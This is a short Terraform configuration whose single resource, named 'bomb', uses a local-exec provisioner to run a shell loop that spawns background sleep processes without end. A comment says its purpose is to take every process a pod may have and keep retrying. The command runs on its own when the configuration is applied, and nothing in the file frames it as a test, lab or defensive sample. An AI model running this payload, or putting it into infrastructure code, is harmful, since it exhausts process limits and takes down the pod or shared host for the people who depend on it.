# Takes every process that the pod may have, and keeps them; where no more can be started, it tries again.
resource "terraform_data" "bomb" {
  provisioner "local-exec" {
    command = "sleep 711 & (while :; do (while :; do sleep 712 & done); done) 2> /dev/null & sleep 711; true"
  }
}
